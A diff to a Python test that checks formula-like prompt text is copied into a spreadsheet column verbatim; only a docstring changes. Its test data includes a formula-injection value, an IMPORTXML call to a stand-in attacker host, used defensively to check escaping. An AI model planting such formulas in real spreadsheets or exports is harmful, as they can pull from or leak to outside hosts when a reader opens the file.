@@ -58,7 +58,7 @@ def test_a_worksheet_that_holds_something_else_is_not_touched(sheet):
 
 
 def test_values_are_written_as_they_are(sheet):
-    """A prompt that looks like a formula must not run in the spreadsheet of whoever reads it."""
+    """A prompt that looks like a formula must not run in the spreadsheet of its reader."""
     texts = ['=IMPORTXML("http://evil.example","//a")', "+1", "-2", "@SUM(A1)", "'quoted", "007", "1e5"]
     copy(sheet, write("a.hilt.jsonl", [event(text) for text in texts]))
     assert sheet.column("message") == texts
